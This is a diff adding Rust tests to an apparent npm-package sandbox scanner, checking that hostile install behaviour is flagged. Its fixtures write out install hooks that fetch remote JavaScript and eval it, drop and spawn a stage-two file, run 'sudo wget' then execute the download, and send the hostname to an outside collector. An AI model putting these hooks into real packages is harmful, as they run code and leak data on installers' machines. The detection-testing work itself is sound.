@@ -373,3 +373,133 @@ fn the_documented_seccomp_table_is_the_filter() {
         airlock_sandbox::seccomp::table()
     );
 }
+
+fn fired(report: &Report, rule: &str) -> Option<Severity> {
+    report
+        .findings
+        .iter()
+        .filter(|finding| finding.rule.as_deref() == Some(rule))
+        .map(|finding| finding.severity)
+        .max()
+}
+
+/// A loader that fetches JavaScript and runs it: the sink's answer is itself a
+/// probe, so running it shows, whether evaluated at once or written and started.
+#[test]
+fn running_what_a_server_sent_blocks() {
+    let evaluated = sandboxed(
+        PackageBuilder::new("remote-eval-shape", "1.0.0")
+            .script("preinstall", "node load.js")
+            .file(
+                "load.js",
+                r#"require("https").get("https://updates.cdn-shape.example/check", (res) => {
+  let body = ""; res.on("data", (c) => body += c); res.on("end", () => { try { eval(body); } catch (e) {} });
+}).on("error", () => {});
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&evaluated, "runtime-ran-download"),
+        Some(Severity::Critical),
+        "{evaluated:#?}"
+    );
+    let written = sandboxed(
+        PackageBuilder::new("stage-two-shape", "1.0.0")
+            .script("postinstall", "node fetch.js")
+            .file(
+                "fetch.js",
+                r#"const fs = require("fs"), os = require("os"), cp = require("child_process");
+fetch("http://stage.cdn-shape.example/next.js").then((r) => r.text()).then((code) => {
+  const file = os.homedir() + "/.config/next.js";
+  fs.mkdirSync(os.homedir() + "/.config", { recursive: true });
+  fs.writeFileSync(file, "// stage two\n");
+  cp.spawnSync(process.execPath, [file]);
+}).catch(() => {});
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&written, "runtime-dropped-and-ran"),
+        Some(Severity::Critical),
+        "{written:#?}"
+    );
+}
+
+/// Commands this system cannot run still count by what the shell was asked to
+/// run: a Windows program, a daemon manager; `sudo` in front of a download runs it.
+#[test]
+fn commands_the_shell_was_given_count() {
+    let windows = sandboxed(
+        PackageBuilder::new("windows-shape", "1.0.0")
+            .script(
+                "postinstall",
+                "rundll32.exe shell32.dll, Control_RunDLL lib/loader.js",
+            )
+            .file("lib/loader.js", "// not a DLL\n"),
+    );
+    assert_eq!(
+        fired(&windows, "runtime-windows-command"),
+        Some(Severity::High),
+        "{windows:#?}"
+    );
+    let daemon = sandboxed(
+        PackageBuilder::new("daemon-shape", "1.0.0")
+            .script("postinstall", "forever start agent.js")
+            .file("agent.js", "setInterval(() => {}, 1000);\n"),
+    );
+    assert_eq!(
+        fired(&daemon, "runtime-daemon"),
+        Some(Severity::High),
+        "{daemon:#?}"
+    );
+    let sudo = sandboxed(PackageBuilder::new("sudo-shape", "1.0.0").script(
+        "preinstall",
+        "sudo wget http://dl.cdn-shape.example/x -O ./.x && chmod +x .x && ./.x",
+    ));
+    assert!(fired(&sudo, "runtime-network-tool").is_some(), "{sudo:#?}");
+    let ordinary = sandboxed(
+        PackageBuilder::new("ordinary-shape", "1.0.0")
+            .script("install", "node -e \"console.log('built')\" && echo done"),
+    );
+    assert!(
+        ordinary
+            .findings
+            .iter()
+            .all(|finding| finding.severity < Severity::High),
+        "{ordinary:#?}"
+    );
+}
+
+/// A dependency that is not there (undeclared, or left out of the tarball) is a
+/// stub too; a stub called with a URL fetches it and calls back what it is given,
+/// so a collector that reports through one is seen.
+#[test]
+fn stubs_follow_urls_and_callbacks() {
+    let report = sandboxed(
+        PackageBuilder::new("stubbed-collector-shape", "1.0.0")
+            .dependency("systeminfo-shape", "^1.0.0")
+            .script("preinstall", "node collect.js")
+            .file(
+                "collect.js",
+                r#"const os = require("os");
+require("./helpers-not-shipped");
+const requests = require("requests-undeclared-shape");
+require("systeminfo-shape").getAllData((data) => {
+  requests("https://collect.pipedream.net/?h=" + os.hostname(), () => {});
+});
+"#,
+            ),
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimeNetwork),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert!(
+        report.observations.iter().any(|observation| matches!(
+            observation,
+            Observation::Resolved { name } if name == "collect.pipedream.net"
+        )),
+        "{report:#?}"
+    );
+}
